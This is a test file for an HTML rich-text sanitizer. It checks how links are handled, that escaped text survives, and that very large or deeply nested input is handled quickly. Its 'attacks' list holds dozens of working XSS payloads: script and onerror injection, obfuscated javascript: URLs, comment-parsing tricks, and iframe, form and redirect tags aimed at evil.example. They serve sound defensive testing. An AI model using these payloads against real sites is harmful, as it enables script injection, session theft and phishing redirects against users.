import { describe, expect, test } from 'vitest'
import { richTextTags } from '@gongtai/contract'
import { sanitizeRichText } from './rich-text.ts'
import { slowness } from '../testing/slowness.ts'

const link = 'target="_blank" rel="noopener noreferrer nofollow"'

test('what the editor makes stays as it is', () => {
  const html =
    '<h2>公司</h2><h3>一</h3><h4>二</h4><p><strong>粗</strong><em>斜</em><u>线</u><s>删</s><br />行</p><ul><li><p>甲</p></li></ul><ol><li><p>乙</p></li></ol>' +
    `<blockquote><p>引</p></blockquote><hr /><p><a href="https://example.com/a?b=1&amp;c=2" ${link}>链接</a></p>`
  expect(sanitizeRichText(html)).toBe(html)
  expect(sanitizeRichText(sanitizeRichText(html))).toBe(html)
})

test('a link is given what makes it safe, whatever it brought', () => {
  expect(sanitizeRichText('<a href="http://example.com/" onclick="x()" target="_self" rel="opener" class="x">去</a>')).toBe(
    `<a href="http://example.com/" ${link}>去</a>`,
  )
})

test.each([
  ['<a href="javascript:1">x</a>', 'x'],
  ['<p>甲 <a href="javascript:1">乙<strong>丙</strong></a> 丁</p>', '<p>甲 乙<strong>丙</strong> 丁</p>'],
  ['<a href="javascript:1"><a href="https://example.com/">里</a>外</a>', `<a href="https://example.com/" ${link}>里</a>外`],
  ['<p><a>无</a><a href="">空</a></p>', '<p>无空</p>'],
])('a link that leads nowhere falls and its words stay, well-formed: %s', (html, kept) => {
  expect(sanitizeRichText(html)).toBe(kept)
  expect(sanitizeRichText(kept)).toBe(kept)
})

test('typed characters stay characters', () => {
  expect(sanitizeRichText('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &lt;script&gt;</p>')).toBe('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &lt;script&gt;</p>')
})

test.each(['', ' ', '<p></p>', '<p><br></p><p>&nbsp;</p>', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<hr>'])('%j is empty', html =>
  expect(sanitizeRichText(html)).toBe(''),
)

const attacks: string[] = [
  '<script>alert(1)</script>好',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>好',
  '<p onclick="alert(1)" style="position:fixed;inset:0" class="x" id="y" data-x="1">好</p>',
  '<img src=x onerror=alert(1)>好',
  '<svg onload=alert(1)><script>alert(1)</script><a href="javascript:alert(1)">好</a></svg>好',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>好',
  '<a href="javascript:alert(1)">好</a>',
  '<a href="JaVaScRiPt:alert(1)">好</a>',
  '<a href="java\tscript:alert(1)">好</a>',
  '<a href="&#106;avascript:alert(1)">好</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">好</a>',
  '<a href=" javascript:alert(1)">好</a>',
  '<a href="\u0001javascript:alert(1)">好</a>',
  '<a href="vbscript:x">好</a>',
  '<a href="data:text/html,<script>alert(1)</script>">好</a>',
  '<a href="//evil.example">好</a>',
  '<a href="/admin-api/v1/logout">好</a>',
  '<a href="https://user:pass@evil.example/">好</a>',
  '<iframe src="https://evil.example"></iframe>好',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>好',
  '<object data="x"></object><embed src="x">好',
  '<style>body{display:none}</style>好',
  '<link rel=stylesheet href=//evil.example>好',
  '<meta http-equiv=refresh content="0;url=//evil.example">好',
  '<base href="//evil.example/">好',
  '<form action="//evil.example"><input name=password><button>好</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>好',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">好</noscript>好',
  '<xmp><img src=x onerror=alert(1)></xmp>好',
  '<template><script>alert(1)</script></template>好',
  '<scr<script>ipt>alert(1)</scr</script>ipt>好',
  '<<script>script>alert(1)<</script>/script>好',
  '<p><b><i>好</p></b></i><div><img src=x onerror=alert(1)//',
  '<a href="https://example.com/"><img src=x onerror=alert(1)>好</a>',
  '<p title="</p><script>alert(1)</script>">好</p>',
  '<!--><img src=x onerror=alert(1)>-->好',
  '<!-- --!><img src=x onerror=alert(1)> -->好',
  '<![CDATA[<img src=x onerror=alert(1)>]]>好',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>好',
  '<p\u0000onclick=alert(1)>好</p>',
  '<a href="https://example.com/" href="javascript:alert(1)">好</a>',
  '<a href=\'https://example.com/"onmouseover="alert(1)\'>好</a>',
  '<option><script>alert(1)</script></option>好',
]

describe('an attack', () => {
  test.each(attacks)('leaves its words at most: %s', html => {
    const clean = sanitizeRichText(html)
    // Every tag that remains is one of ours, bare, or a link as we write it.
    for (const [tag] of clean.matchAll(/<[^>]*>?/g)) expect(tag).toMatch(bareTag)
    expect(clean).toContain('好')
    expect(sanitizeRichText(clean)).toBe(clean)
  })
})

const bareTag = new RegExp(`^(?:</?(?:${richTextTags.join('|')})(?: /)?>|<a href="https?://[^"<>\\s]*" ${link}>)$`)

describe('a huge one', () => {
  const size = 1_000_000
  const shapes: [string, string][] = [
    ['open tags', '<p>'.repeat(size / 3)],
    ['open lists', '<ul><li>'.repeat(size / 8)],
    ['as many open lists as are parsed', '<ul><li>'.repeat(4_999)],
    ['open tags that are not allowed', '<div>'.repeat(size / 5)],
    ['angle brackets', '<'.repeat(size)],
    ['half tags', '<a href="'.repeat(size / 9)],
    ['half comments', '<!--'.repeat(size / 4)],
    ['scripts that do not end', '<script>'.repeat(size / 8)],
    ['frames in frames', '<iframe>'.repeat(size / 8)],
    ['noscript in noscript', '<noscript>'.repeat(size / 10)],
    ['ampersands', '&'.repeat(size)],
    ['entities', '&lt;'.repeat(size / 4)],
    ['links', '<a href="https://example.com/">x</a>'.repeat(size / 36)],
    ['attributes', `<p ${'a=1 '.repeat(size / 4)}>x</p>`],
    ['ends', '</p>'.repeat(size / 4)],
  ]
  test.each(shapes)('of %s is done in no time', (_, html) => {
    const started = performance.now()
    const clean = sanitizeRichText(html)
    // A second at most on an idle machine; close to a minute where it is not linear.
    expect(performance.now() - started).toBeLessThan(10_000 * slowness())
    for (const [tag] of clean.matchAll(/<[^>]*>?/g)) if (!bareTag.test(tag)) expect(tag).toMatch(bareTag)
  })

  test('keeps its words where it has more tags than anybody writes', () => {
    expect(sanitizeRichText(`${'<ul><li>'.repeat(10_000)}<script>好</script> &lt;b&gt;`)).toBe('<p>好 &lt;b&gt;</p>')
  })

  test('is cut to a depth that a page can show', () => {
    const clean = sanitizeRichText(`${'<blockquote>'.repeat(5_000)}深${'</blockquote>'.repeat(5_000)}`)
    expect(clean.split('<blockquote>').length - 1).toBe(40)
    expect(clean).toContain('深')
  })
})
